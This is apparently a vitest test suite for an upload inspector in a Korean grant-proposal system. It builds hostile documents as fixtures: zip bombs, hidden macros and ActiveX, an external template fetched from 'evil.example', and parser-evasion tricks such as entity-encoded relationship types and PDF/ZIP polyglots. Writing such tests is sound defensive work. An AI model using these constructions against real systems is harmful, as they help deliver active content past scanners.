// Issue 11 items 15 and 16 through the real upload use case: zip archives that lie or add up, and
// active content recognised by what the package says (relationships, content types, script streams,
// flags), not by part names alone. Each refusal names what was found and keeps nothing.
import crypto from "node:crypto";
import fs from "node:fs";
import { beforeAll, describe, expect, it } from "vitest";
import { db } from "@/lib/db/client";
import { createConsortium } from "@/lib/consortia/create-consortium";
import { createProposal } from "@/lib/proposals/create-proposal";
import { fieldMessage } from "@/lib/i18n";
import { ctx, makeUser } from "../support/factories";
import { appError } from "../support/expect-error";
import { makeCall, org, upload } from "../support/apply";
import * as fx from "../support/files";

let slug: string;
beforeAll(async () => {
  slug = (await makeCall()).slug;
});

async function draft() {
  const owner = await makeUser();
  const c = await createConsortium(owner, { callSlug: slug, name: `악성 문서 ${crypto.randomBytes(3).toString("hex")}`, lead: org() }, ctx);
  const p = await createProposal(owner, { consortiumId: c.id }, ctx);
  return { owner, proposalId: p.id };
}

function filesIn(dir: string): number {
  if (!fs.existsSync(dir)) return 0;
  return fs.readdirSync(dir, { recursive: true, withFileTypes: true }).filter((d) => d.isFile()).length;
}

const docxParts = (extra: Record<string, string | Buffer> = {}, ct?: string) => fx.zip({ ...fx.docxEntries(), ...(ct ? { "[Content_Types].xml": ct } : {}), ...extra });
const xlsxParts = (extra: Record<string, string | Buffer> = {}) => fx.zip({ ...fx.xlsxEntries(), ...extra });

interface Case {
  what: string;
  kind?: string;
  name: string;
  bytes: Buffer | Promise<Buffer>;
  key: string;
  found?: string;
}

async function expectRefused(c: Case) {
  const { owner, proposalId } = await draft();
  const before = filesIn(process.env.UPLOAD_DIR!);
  const e = await appError(upload(owner, proposalId, c.kind ?? "OTHER", await c.bytes, c.name));
  expect([c.what, e.code, e.fields]).toEqual([c.what, "VALIDATION_FAILED", { file: c.key }]);
  if (c.found !== undefined) {
    expect([c.what, e.fieldParams?.file?.found]).toEqual([c.what, c.found]);
    // The Korean message names it.
    expect(fieldMessage(c.key, "ko", e.fieldParams!.file)).toContain(c.found);
  }
  expect(await db.attachment.count({ where: { proposalId } })).toBe(0);
  expect([c.what, filesIn(process.env.UPLOAD_DIR!)]).toEqual([c.what, before]);
}

describe("item 15: zip archives", () => {
  it("refuses 1,000 parts of 1 MiB − 1 (each under the per-part rule, ~1,000 MiB in all)", async () => {
    const entry = fx.rawEntry("x", Buffer.alloc((1 << 20) - 1)); // 1 MiB − 1 of zeros, ~1 KiB deflated
    const bytes = fx.rawZip([...Object.entries(fx.docxEntries()).map(([n, c]) => fx.rawEntry(n, c)), ...Array.from({ length: 1000 }, (_, i) => ({ ...entry, name: `word/media/p${i}.bin` }))]);
    expect(bytes.length).toBeLessThan(3 << 20);
    await expectRefused({ what: "1000 × (1 MiB − 1)", name: "부록.docx", bytes, key: "fileArchiveSuspicious" });
  });

  it("refuses more than 5,000 entries", async () => {
    const bytes = fx.rawZip([...Object.entries(fx.docxEntries()).map(([n, c]) => fx.rawEntry(n, c)), ...Array.from({ length: 5001 }, (_, i) => fx.rawEntry(`word/media/e${i}.txt`, "x", 0))]);
    await expectRefused({ what: "5,004 entries", name: "부록.docx", bytes, key: "fileArchiveSuspicious" });
  });

  it("refuses a part whose directory understates what it inflates to", async () => {
    const liar = { ...fx.zeroBombEntry("word/document.xml", 8), size: 50_000 }; // 8 MiB inside, 50 KB declared (ratio ~6)
    const bytes = fx.rawZip([fx.rawEntry("[Content_Types].xml", fx.contentTypes()), fx.rawEntry("_rels/.rels", "<Relationships/>"), liar]);
    await expectRefused({ what: "lying directory", name: "사업계획서.docx", bytes, key: "fileArchiveSuspicious" });
  });
});

describe("item 16: active content", () => {
  const macroDoc = fx.contentTypes({ "/word/document.xml": "application/vnd.ms-word.document.macroEnabled.main+xml" });
  const cases: Case[] = [
    {
      what: "vbaProject relationship to another name",
      name: "사업계획서.docx",
      bytes: docxParts({ "word/_rels/document.xml.rels": fx.rels([{ type: fx.REL_TYPES.vbaProject, target: "payload.dat" }]), "word/payload.dat": Buffer.alloc(512, 7) }),
      key: "fileMacro",
      found: "word/payload.dat",
    },
    { what: "docm content type in .docx", name: "사업계획서.docx", bytes: docxParts({}, macroDoc), key: "fileMacro", found: "application/vnd.ms-word.document.macroEnabled.main+xml" },
    {
      what: "XLM macro sheet under another name",
      name: "예산.xlsx",
      bytes: xlsxParts({ "xl/_rels/workbook.xml.rels": fx.rels([{ type: fx.REL_TYPES.xlMacrosheet, target: "worksheets/sheet2.xml" }]), "xl/worksheets/sheet2.xml": "<xm:macrosheet/>" }),
      key: "fileMacro",
      found: "xl/worksheets/sheet2.xml",
    },
    { what: "XLM macro sheet folder", name: "예산.xlsx", bytes: xlsxParts({ "xl/macrosheets/sheet1.xml": "<xm:macrosheet/>" }), key: "fileMacro", found: "xl/macrosheets/sheet1.xml" },
    { what: "vbaProject.bin by name", name: "사업계획서.docx", bytes: docxParts({ "word/vbaProject.bin": Buffer.alloc(64) }), key: "fileMacro", found: "word/vbaProject.bin" },
    {
      what: "ActiveX control",
      name: "사업계획서.docx",
      bytes: docxParts({ "word/_rels/document.xml.rels": fx.rels([{ type: fx.REL_TYPES.control, target: "ctl/c1.xml" }]), "word/ctl/c1.xml": "<ax:ocx/>" }),
      key: "fileActiveX",
      found: "word/ctl/c1.xml",
    },
    {
      what: "embedded OLE object",
      name: "사업계획서.docx",
      bytes: docxParts({ "word/_rels/document.xml.rels": fx.rels([{ type: fx.REL_TYPES.oleObject, target: "embeddings/obj.dat" }]), "word/embeddings/obj.dat": Buffer.alloc(256, 1) }),
      key: "fileEmbeddedObject",
      found: "word/embeddings/obj.dat",
    },
    {
      what: "external attachedTemplate",
      name: "사업계획서.docx",
      bytes: docxParts({ "word/settings.xml": "<w:settings/>", "word/_rels/settings.xml.rels": fx.rels([{ type: fx.REL_TYPES.attachedTemplate, target: "http://templates.example/t.dotm", external: true }]) }),
      key: "fileExternalLink",
      found: "http://templates.example/t.dotm",
    },
    {
      what: "entity-encoded relationship type",
      name: "사업계획서.docx",
      bytes: docxParts({ "word/_rels/document.xml.rels": fx.rels([{ type: fx.REL_TYPES.vbaProject.replace("vbaProject", "vba&#80;roject"), target: "x.bin" }]), "word/x.bin": Buffer.alloc(64) }),
      key: "fileMacro",
      found: "word/x.bin",
    },
    { what: "HWP with a script", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwp", bytes: fx.hwpWith({ script: fx.HOSTILE_SCRIPT }), key: "fileScript", found: "Scripts/DefaultJScript" },
    { what: "HWP (uncompressed) with a script", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwp", bytes: fx.hwpWith({ flags: 0, script: fx.HOSTILE_SCRIPT }), key: "fileScript", found: "Scripts/DefaultJScript" },
    { what: "HWP with OLE BinData", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwp", bytes: fx.hwpWith({ extra: { "/BinData/BIN0001.OLE": Buffer.alloc(3000, 9) } }), key: "fileEmbeddedObject", found: "BinData/BIN0001.OLE" },
    { what: "HWP with a password", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwp", bytes: fx.hwpWith({ flags: 0b11 }), key: "fileEncrypted" },
    { what: "HWP distribution document", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwp", bytes: fx.hwpWith({ flags: 0b101 }), key: "fileDistributionDocument" },
    { what: "HWPX with a script", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwpx", bytes: fx.hwpxWith({ "Scripts/sourceScripts": fx.HOSTILE_SCRIPT }), key: "fileScript", found: "Scripts/sourceScripts" },
    { what: "HWPX with an OLE object", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwpx", bytes: fx.hwpxWith({ "BinData/ole1.ole": Buffer.alloc(300, 3) }), key: "fileEmbeddedObject", found: "BinData/ole1.ole" },
    { what: "encrypted PDF", name: "계획서.pdf", bytes: fx.encryptedPdf(), key: "fileEncrypted" },
    // Bypasses a security review confirmed in the first version of the inspection.
    { what: "HWP script in JScript conditional compilation", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwp", bytes: fx.hwpWith({ script: fx.CC_ON_SCRIPT }), key: "fileScript", found: "Scripts/DefaultJScript" },
    {
      what: "attachedTemplate after a '>' in an attribute value",
      name: "사업계획서.docx",
      bytes: docxParts({ "word/_rels/settings.xml.rels": `<Relationships><Relationship Id="rId1" Target="https://evil.example/t.dotm?a>b" Type="${fx.REL_TYPES.attachedTemplate}" TargetMode="External"/></Relationships>` }),
      key: "fileExternalLink",
      found: "https://evil.example/t.dotm?a>b",
    },
    { what: "two [Content_Types].xml, the first macro-enabled", name: "사업계획서.docx", bytes: fx.duplicateContentTypesDocx(macroDoc), key: "fileArchiveDuplicateEntry", found: "[Content_Types].xml" },
    {
      what: "altChunk importing an RTF",
      name: "사업계획서.docx",
      bytes: docxParts({ "word/_rels/document.xml.rels": fx.rels([{ type: fx.REL_TYPES.aFChunk, target: "afchunk.rtf" }]), "word/afchunk.rtf": "{\\rtf1 {\\object\\objemb}}" }),
      key: "fileImportedContent",
      found: "word/afchunk.rtf",
    },
    { what: "HWPX script under a name with 'version'", kind: "CONSORTIUM_AGREEMENT", name: "협약서.hwpx", bytes: fx.hwpxWith({ "Scripts/versionScripts": fx.HOSTILE_SCRIPT }), key: "fileScript", found: "Scripts/versionScripts" },
    { what: "encrypted PDF, /Encrypt written with a name escape", name: "계획서.pdf", bytes: fx.encryptedPdf("/Encr#79pt"), key: "fileEncrypted" },
  ];
  for (const c of cases) it(`refuses: ${c.what}`, () => expectRefused(c));

  it("names encryption for password-protected Office files (a compound file) and ZIPs with encrypted parts", async () => {
    const CFB = (await import("cfb")).default;
    const c = CFB.utils.cfb_new();
    CFB.utils.cfb_add(c, "/EncryptionInfo", Buffer.alloc(200, 4));
    CFB.utils.cfb_add(c, "/EncryptedPackage", Buffer.alloc(9000, 5));
    const office = Buffer.from(CFB.write(c, { type: "buffer" }) as Uint8Array);
    await expectRefused({ what: "encrypted docx", kind: "BUSINESS_PLAN", name: "사업계획서.docx", bytes: office, key: "fileEncrypted" });
    const zipCrypto = fx.rawZip(Object.entries(fx.docxEntries()).map(([n, c2]) => ({ ...fx.rawEntry(n, c2), flags: 1 })));
    await expectRefused({ what: "zip with encrypted parts", kind: "BUSINESS_PLAN", name: "사업계획서.docx", bytes: zipCrypto, key: "fileEncrypted" });
  });

  it("refuses a PDF with a ZIP appended after it (trailing %%EOF, which lenient readers skip)", async () => {
    const bytes = Buffer.concat([fx.pdf("plan"), await fx.docx(), Buffer.from("\n%%EOF\n")]);
    await expectRefused({ what: "pdf + zip + %%EOF", name: "계획서.pdf", bytes, key: "filePolyglot", found: "ZIP" });
  });

  it("accepts real documents: Hancom's default script stubs, charts' embedded workbooks, hyperlinks, images", async () => {
    const { owner, proposalId } = await draft();
    const chartDoc = await docxParts({
      "word/_rels/document.xml.rels": fx.rels([
        { type: fx.REL_TYPES.hyperlink, target: "https://www.msit.go.kr/", external: true },
        { type: fx.REL_TYPES.image, target: "media/image1.png" },
      ]),
      "word/media/image1.png": Buffer.alloc(2000, 5),
      "word/charts/chart1.xml": "<c:chartSpace/>",
      "word/charts/_rels/chart1.xml.rels": fx.rels([{ type: fx.REL_TYPES.package, target: "../embeddings/Microsoft_Excel_Worksheet.xlsx" }]),
      "word/embeddings/Microsoft_Excel_Worksheet.xlsx": await fx.xlsx(),
    });
    const accepted: [string, string, Buffer][] = [
      ["BUSINESS_PLAN", "사업계획서.hwp", fx.hwpWith()],
      ["CONSORTIUM_AGREEMENT", "협약서.hwpx", await fx.hwpxWith()],
      ["BUDGET_PLAN", "예산.hwp", fx.hwpWith({ flags: 0, extra: { "/BinData/BIN0001.jpg": Buffer.alloc(4000, 6) } })],
      ["OTHER", "차트.docx", chartDoc],
      ["OTHER", "계획서.pdf", fx.pdf()],
      ["OTHER", "예산.xlsx", await fx.xlsx()],
    ];
    for (const [kind, name, bytes] of accepted) expect((await upload(owner, proposalId, kind, bytes, name)).fileName).toBe(name);
  });
});
